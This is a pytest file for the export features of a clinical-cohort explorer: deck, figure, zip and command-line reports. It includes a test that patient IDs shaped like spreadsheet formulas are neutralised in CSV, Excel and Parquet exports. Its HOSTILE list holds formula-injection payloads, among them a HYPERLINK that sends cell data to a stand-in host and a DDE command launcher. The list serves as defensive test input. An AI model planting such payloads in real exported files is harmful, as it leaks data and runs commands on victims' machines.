"""The meeting kit through the app (Export dialog callbacks via the Flask test client),
the command line, and formula-looking patient IDs through every export."""

from __future__ import annotations

import base64
import io
import subprocess
import sys
import zipfile

import pandas as pd
import pytest
from dash_callback_client import STORE, key, text_of
from pptx import Presentation

from analysis.data import registry
from analysis.data.loader import load_dataset
from analysis.settings import BUNDLED_COHORT
from components.downloads import csv_zip_bytes, excel_bytes, parquet_bytes, provenance_record

FILTERED = ("/therapy", "?ldl_cut=80&sbp_cut=130&age=45-75")


def _kit_values(fmt: str, pathname: str, search: str) -> dict:
    return {key("export-kit-build", "n_clicks"): 1, key("export-kit-format", "value"): fmt,
            key("url", "pathname"): pathname, key("url", "search"): search}


def test_export_dialog_builds_the_deck_in_the_background(caller):
    out = caller.call_job("export-kit-download.data",
                              _kit_values("pptx", *FILTERED), ["export-kit-build.n_clicks"])
    sent = out["export-kit-download"]["data"]
    assert sent["filename"].startswith("ivus_therapy_") and sent["filename"].endswith(".pptx")
    prs = Presentation(io.BytesIO(base64.b64decode(sent["content"])))
    title = " ".join(s.text_frame.text for s in prs.slides[0].shapes if s.has_text_frame)
    assert "LDL-C cut-point for intensive therapy: 80 mg/dl" in title
    assert "not patient data" in title
    assert "is ready" in text_of(out["export-kit-status"]["children"])


def test_a_bad_link_gets_a_sentence_not_a_traceback(caller):
    out = caller.call_job("export-kit-download.data",
                              _kit_values("html", "/nowhere", "?age=abc"),
                              ["export-kit-build.n_clicks"])
    text = text_of(out["export-kit-status"]["children"])
    assert "not a page of the explorer" in text
    assert "Traceback" not in text and "/work/" not in text and "site-packages" not in text


def test_figure_image_download_has_its_caption(caller):
    values = {key("export-fig-build", "n_clicks"): 1,
              key("export-fig-choice", "value"): "ls_means_by_group",
              key("export-fig-format", "value"): "svg",
              key("url", "pathname"): "/comparison", key("url", "search"): "?age=50-70"}
    status, data, _ = caller.call("export-fig-download.data", values,
                                  changed=["export-fig-build.n_clicks"])
    assert status == 200
    sent = data["response"]["export-fig-download"]["data"]
    svg = base64.b64decode(sent["content"]).decode()
    assert sent["filename"].startswith("ls_means_by_group_") and svg.lstrip().startswith("<svg")
    assert "Age 50-70 years" in svg and "not patient data" in svg


def test_background_images_after_the_server_rendered_one(caller):
    """The job process is forked from a server whose kaleido is running: it starts its
    own (static_images forgets the parent's at fork) instead of waiting forever."""
    from components import static_images

    assert static_images._started          # the figure test above rendered in this process
    out = caller.call_job("export-kit-download.data", _kit_values("zip", "/", ""),
                              ["export-kit-build.n_clicks"], timeout=180)
    sent = out["export-kit-download"]["data"]
    with zipfile.ZipFile(io.BytesIO(base64.b64decode(sent["content"]))) as zf:
        names = set(zf.namelist())
        png = zf.read("figures/dpav_ls_means.png")
    assert {"data.csv", "provenance.txt", "dictionary.csv", "view.py", "view.R", "deck.pptx",
            "report.html", "figures/dpav_ls_means.svg"} <= names
    assert png[:8] == b"\x89PNG\r\n\x1a\n"


def test_kit_data_csv_is_the_data_pages_csv(caller, dataset):
    from reports.data_files import data_files
    from reports.view import build_view

    values = {key("data-csv", "n_clicks"): 1, key("data-xlsx", "n_clicks"): None,
              key("data-parquet", "n_clicks"): None, STORE: "age=45-75&ldl_cut=80&sbp_cut=130"}
    status, data, _ = caller.call("data-download.data", values, changed=["data-csv.n_clicks"])
    assert status == 200
    page_zip = base64.b64decode(data["response"]["data-download"]["data"]["content"])
    with zipfile.ZipFile(io.BytesIO(page_zip)) as zf:
        page_csv = zf.read("data.csv")
    view = build_view("".join(FILTERED), dataset.provenance.fingerprint)
    assert data_files(view)["data.csv"] == page_csv


def test_command_line_writes_a_script_and_refuses_a_bad_link(tmp_path):
    out = tmp_path / "view.py"
    done = subprocess.run([sys.executable, "-m", "reports", "/comparison?age=50-70",
                           "--format", "py", "--out", str(out)], capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr
    assert "Age 50-70 years" in out.read_text()
    bad = subprocess.run([sys.executable, "-m", "reports", "/nowhere", "--format", "html",
                          "--out", str(tmp_path / "x.html")], capture_output=True, text=True,
                         timeout=300)
    assert bad.returncode == 1 and bad.stderr.strip().splitlines()[-1].startswith("error: '/nowhere'")
    assert "Traceback" not in bad.stderr and not (tmp_path / "x.html").exists()


# ------------------------------------------------------------ formula-looking patient IDs
#: (the loader strips surrounding whitespace from IDs, so tab / CR starts are tested on
#: hand-made frames in test_grid_and_exports.py)
HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"open")', "+SUM(1,2)", "-1+1", "@cmd",
           "=cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def hostile_fingerprint():
    """The bundled cohort with the IDs of the first five compared patients (the default
    view leaves out other calcification) made formula-like."""
    raw = pd.read_csv(BUNDLED_COHORT, dtype={"patient_id": str})
    compared = raw.index[raw["calcification"].isin(["none", "spotty"])][:len(HOSTILE)]
    raw.loc[compared, "patient_id"] = HOSTILE
    return registry.register(load_dataset(raw, simulated=True))


def test_formula_like_ids_round_trip_through_every_export(hostile_fingerprint):
    from openpyxl import load_workbook

    from reports.data_files import data_files, view_frame
    from reports.view import build_view

    view = build_view("/data", hostile_fingerprint)
    frame = view_frame(view)
    assert list(frame["patient_id"][:5]) == HOSTILE
    # kit and Data-page CSV: a leading apostrophe (OWASP), text, one apostrophe to strip
    back = pd.read_csv(io.BytesIO(data_files(view)["data.csv"]), encoding="utf-8-sig",
                       dtype={"patient_id": str})
    assert [v[1:] for v in back["patient_id"][:5]] == HOSTILE
    assert all(v.startswith("'") for v in back["patient_id"][:5])
    assert back["patient_id"][5] == frame["patient_id"].iloc[5]
    rec = provenance_record(source="x.csv", fingerprint=hostile_fingerprint, n=len(frame),
                            filters=[], query="")
    with zipfile.ZipFile(io.BytesIO(csv_zip_bytes(frame, rec))) as zf:
        assert zf.read("data.csv") == data_files(view)["data.csv"]
    # Excel: text cells equal to the original IDs, read by openpyxl and pandas
    xlsx = excel_bytes({"data": frame}, rec)
    ws = load_workbook(io.BytesIO(xlsx))["data"]
    cells = [ws.cell(row=r, column=1) for r in range(2, 7)]
    assert [c.value for c in cells] == HOSTILE and {c.data_type for c in cells} == {"s"}
    assert list(pd.read_excel(io.BytesIO(xlsx), dtype={"patient_id": str})["patient_id"][:5]) \
        == HOSTILE
    # Parquet is typed: the IDs are strings as they are
    parquet = pd.read_parquet(io.BytesIO(parquet_bytes(frame, rec)))
    assert list(parquet["patient_id"][:5]) == HOSTILE


def test_dialog_ticks_the_sensitivity_section_on_the_comparison_only(caller):
    for path, ticked in (("/comparison", True), ("/therapy", False), ("/", False)):
        status, data, _ = caller.call("export-modal.is_open", {
            key("export-open", "n_clicks"): 1, key("url", "pathname"): path},
            changed=["export-open.n_clicks"])
        assert status == 200
        assert data["response"]["export-kit-sensitivity"]["value"] is ticked
    # its figures are offered for download on the comparison page
    options = caller.call("export-modal.is_open", {
        key("export-open", "n_clicks"): 1, key("url", "pathname"): "/comparison"},
        changed=["export-open.n_clicks"])[1]["response"]["export-fig-choice"]["options"]
    assert {o["value"] for o in options} >= {"sensitivity_forest", "propensity_balance"}


def test_ticked_sensitivity_puts_the_section_in_any_views_report(caller):
    values = _kit_values("html", *FILTERED) | {key("export-kit-sensitivity", "value"): True}
    out = caller.call_job("export-kit-download.data", values,
                              ["export-kit-build.n_clicks"])
    report = base64.b64decode(out["export-kit-download"]["data"]["content"]).decode()
    assert "<section id='section-sensitivity'>" in report
    assert 'id="figure-sensitivity_forest"' in report
    values[key("export-kit-sensitivity", "value")] = False
    values[key("url", "pathname")] = "/comparison"
    out = caller.call_job("export-kit-download.data", values,
                              ["export-kit-build.n_clicks"])
    report = base64.b64decode(out["export-kit-download"]["data"]["content"]).decode()
    assert "section-sensitivity" not in report
